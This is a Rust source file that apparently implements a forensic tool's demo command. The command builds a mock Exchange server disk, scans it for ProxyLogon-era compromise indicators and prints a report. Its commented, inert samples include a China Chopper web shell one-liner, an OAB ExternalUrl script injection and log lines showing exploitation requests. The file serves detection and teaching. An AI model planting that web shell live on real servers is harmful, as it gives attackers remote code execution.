//! `vigie demo`: build a small Exchange-like disk of our own making in a
//! temporary directory, triage it, and print the report. Nothing in it can
//! run: the shell-like texts sit inside server-side comments.

use crate::commands::output;
use crate::commands::progress::BarProgress;
use anyhow::Context;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use vigie_scan::{Engine, ScanOptions};

/// Options of `vigie demo`.
#[derive(Debug, clap::Args)]
pub(crate) struct DemoArgs {
    /// Write the demo tree here and keep it (default: a temporary directory,
    /// removed afterwards).
    #[arg(long, value_name = "DIR")]
    keep: Option<PathBuf>,

    #[command(flatten)]
    out: output::OutputArgs,
}

const EXCHANGE: &str = "Program Files/Microsoft/Exchange Server/V15";

/// The demo files: (path under the root, content). All of our own making.
fn demo_files() -> Vec<(String, String)> {
    let chopper = "<%-- vigie demo sample: inert text inside a server-side comment, never executed.\n\
         Shape of a China Chopper one-liner as planted in aspnet_client in March 2021:\n\
         <%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"vigiedemo\"],\"unsafe\");%>\n\
         --%>\n";
    let oab = "<%-- vigie demo sample (inert). An OAB virtual directory configuration saved into an\n\
         .aspx by Set-OabVirtualDirectory, with a script in ExternalUrl (ProxyLogon, CVE-2021-27065):\n\
         Name : OAB (Default Web Site)\n\
         PollInterval : 480\n\
         OfflineAddressBooks :\n\
         RequireSSL : True\n\
         ExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){/*vigie demo*/}</script>\n\
         InternalUrl : https://mail.example.local/OAB\n\
         --%>\n";
    let iis = "#Software: Microsoft Internet Information Services 10.0\r\n\
         #Version: 1.0\r\n\
         #Date: 2021-03-03 02:41:00\r\n\
         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n\
         2021-03-03 02:41:07 10.0.0.5 GET /owa/auth/logon.aspx replaceCurrent=1 443 - 192.0.2.10 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 15\r\n\
         2021-03-03 02:42:11 10.0.0.5 POST /ecp/y.js - 443 - 203.0.113.77 ExchangeServicesClient/0.0.0.0 - 200 0 0 31\r\n\
         2021-03-03 02:44:52 10.0.0.5 POST /aspnet_client/system_web/demo_chopper.aspx - 443 - 203.0.113.77 antSword/v2.1 - 200 0 0 46\r\n\
         2021-03-03 02:45:03 10.0.0.5 GET /owa/auth/logon.aspx url=https%3a%2f%2fmail.example.local%2fowa%2f 443 - 192.0.2.11 Mozilla/5.0+(Macintosh) - 200 0 0 12\r\n";
    let httpproxy = "#Software: Microsoft Exchange Server\r\n\
         #Version: 15.01.2106.002\r\n\
         #Log-type: HttpProxy Logs\r\n\
         #Date: 2021-03-03T02:42:00.000Z\r\n\
         #Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus\r\n\
         2021-03-03T02:42:11.125Z,6f1c2d3e-0000-4000-8000-000000000001,15,1,2106,2,,Ecp,mail.example.local,/ecp/y.js,,,false,,,ServerInfo~a]@exch01.example.local:444/ecp/proxyLogon.ecp?#,ExchangeServicesClient/0.0.0.0,203.0.113.77,EXCH01,241,241,,POST,Proxy,exch01.example.local,Version 15.1 (Build 2106.2),AnchorMailboxHeader-ServerInfo,X-BEResource-Cookie,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\r\n";
    vec![
        ("inetpub/wwwroot/aspnet_client/system_web/demo_chopper.aspx".to_string(), chopper.to_string()),
        (format!("{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/demo_oab.aspx"), oab.to_string()),
        ("Windows/Temp/vigie-demo/ioc-test-value.txt".to_string(), "vigie demo IOC test value\n".to_string()),
        ("inetpub/logs/LogFiles/W3SVC1/u_ex210303.log".to_string(), iis.to_string()),
        (format!("{EXCHANGE}/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG"), httpproxy.to_string()),
        ("inetpub/wwwroot/iisstart.htm".to_string(), "<!DOCTYPE html><html><head><title>IIS Windows Server</title></head><body><img src=\"iisstart.png\" alt=\"IIS\"></body></html>\n".to_string()),
        (format!("{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/.demo-hidden/readme.txt"), "Dot-folders are scanned too: attackers hide shells there.\n".to_string()),
    ]
}

/// Write the demo tree under `root`.
fn write_tree(root: &Path) -> anyhow::Result<()> {
    for (rel, content) in demo_files() {
        let path = root.join(&rel);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)
                .with_context(|| format!("cannot create demo folder {}", parent.display()))?;
        }
        std::fs::write(&path, content)
            .with_context(|| format!("cannot write demo file {}", path.display()))?;
    }
    Ok(())
}

pub(crate) fn run(args: DemoArgs) -> anyhow::Result<ExitCode> {
    let temp;
    let root = match &args.keep {
        Some(dir) => dir.clone(),
        None => {
            temp = tempfile::Builder::new()
                .prefix("vigie-demo-")
                .tempdir()
                .context("cannot create a temporary directory")?;
            temp.path().to_path_buf()
        }
    };
    write_tree(&root)?;
    eprintln!("vigie demo: triaging an Exchange-like disk of our own making at {}", root.display());
    let mut options = ScanOptions::new(Vec::new());
    options.system_roots = vec![root.clone()];
    options.host = Some("demo-exch01".into());
    let engine = Engine::load(options).context("cannot load the built-in rules")?;
    let mut result = engine.scan(&BarProgress::new(true));
    result.provenance.command_line = vec!["vigie".into(), "demo".into()];
    output::write_outputs(&result, args.out.format.as_deref(), &args.out.output)?;
    if args.keep.is_some() {
        eprintln!("vigie demo: the tree is kept at {}", root.display());
    }
    // The demo succeeds when it shows what it should; findings are the point.
    Ok(ExitCode::SUCCESS)
}
